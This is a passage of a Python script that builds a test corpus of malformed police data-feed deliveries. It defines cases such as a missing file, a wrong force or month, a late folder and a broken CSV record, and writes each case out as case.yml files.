    Case("file_missing_from_feed", "cumbria", "intelligence",
         "the delivery has INTEL_REPORTS.csv but not INTEL_SUBJECTS.csv",
         "file_quarantined", "file is missing", file_missing_from_feed, quarantined_file="INTEL_SUBJECTS.csv"),
    Case("wrong_force", "suffolk", "crime",
         "Norfolk's crime extract was dropped in Suffolk's folder",
         "file_quarantined", "is for force 'norfolk', not 'suffolk'", wrong_force,
         quarantined_file="crime-occurrences.jsonl"),
    Case("wrong_month", "hertfordshire", "missing",
         "December 2025's missing-person extract was sent again as January 2026's",
         "file_quarantined", "wrong month's file", wrong_month, quarantined_file="misper_episodes.csv"),
    Case("missing_feed_folder", "suffolk", "visor",
         "no visor folder for the month at all (late delivery)",
         "feed_missing", "missing (late delivery)", missing_feed_folder,
         decision="visor is mandatory for suffolk: the force's products are held; the others carry on."),
    # added later (numbers stay stable: new cases go at the end)
    Case("bare_cr_in_unquoted_field", "wiltshire", "missing",
         "a forename holds a bare carriage return, unquoted, so the CSV record breaks in two",
         "rows_quarantined", "fields but the header has", bare_cr_in_unquoted_field, reason="required_present",
         decision="Both halves are held (neither is a whole record); the report must say the row has the wrong "
                  "number of fields, which is what the force has to fix."),
]


# --------------------------------------------------------------------------------------------
# Writing the corpus
# --------------------------------------------------------------------------------------------


def case_dirs(root: Path = HERE) -> list[Path]:
    """The case directories, in order."""
    return sorted(p for p in root.iterdir() if p.is_dir() and (p / "case.yml").is_file())


def _check_layout() -> None:
    slots = [(c.force, c.feed) for c in CASES]
    assert len(slots) == len(set(slots)), "two cases share a force x feed"
    for case in CASES:
        assert case.outcome in OUTCOMES, case.name
        proceeds = case.outcome in ("rows_quarantined", "landed", "landed_flagged")
        assert case.force in (PROCEEDING_FORCES if proceeds else HELD_FORCES), \
            f"{case.name}: {case.force} must be in {'PROCEEDING' if proceeds else 'HELD'}_FORCES"


class _NoAliases(yaml.SafeDumper):
    """Write repeated values out in full (no &id001 anchors): case.yml is read by people."""

    def ignore_aliases(self, data: Any) -> bool:
        return True


def write_case(number: int, case: Case, built: Built, root: Path) -> Path:
    directory = root / f"{number:02d}_{case.name}"
    shutil.rmtree(directory, ignore_errors=True)
    directory.mkdir(parents=True)
    config = force_config(case.force)
    record: dict[str, Any] = {
        "id": directory.name, "force": case.force, "dialect": config.dialect, "feed": case.feed, "month": MONTH,
        "problem": case.problem, "outcome": case.outcome, "message": case.message,
    }
    if case.decision:
        record["decision"] = case.decision
    if built.notes:
        record["notes"] = built.notes
    if built.delivery is not None:
        record["files"] = sorted(built.delivery.files)
        record["malformed_files"] = sorted(built.malformed_files)
        (directory / "files").mkdir()
        for name, data in sorted(built.delivery.files.items()):
            (directory / "files" / name).write_bytes(data)
    if case.quarantined_file:
        record["quarantined_file"] = case.quarantined_file
    if built.delivery is not None and case.outcome in ("rows_quarantined", "landed", "landed_flagged"):
        record["rows"] = built.rows or {e: len(f) for e, f in built.delivery.canonical.items()}
    if built.rows_quarantined is not None:
        record["rows_quarantined"] = built.rows_quarantined
    if case.reason:
        record["reason"] = case.reason
    if case.flags:
        record["flags"] = case.flags
    if built.planted:
        record["planted"] = built.planted
    text = yaml.dump(record, Dumper=_NoAliases, sort_keys=False, allow_unicode=False, width=110)
    header = ("# Generated by tests/malformed/make_corpus.py: do not edit by hand, change the script and re-run it.\n"
              "# Format: tests/malformed/README.md.\n")
    (directory / "case.yml").write_text(header + text)
    return directory


def main(root: Path = HERE) -> list[Path]:
    _check_layout()
    with tempfile.TemporaryDirectory() as tmp:
        world = World(Path(tmp) / "world")
        generate_world(WORLD, world.root)
        for old in case_dirs(root):
            shutil.rmtree(old)
        written = [write_case(n, case, case.build(world), root) for n, case in enumerate(CASES, start=1)]
    for directory in written:
        print(directory.relative_to(root.parent.parent) if root == HERE else directory)
    return written


if __name__ == "__main__":
    sys.exit(0 if main() else 1)
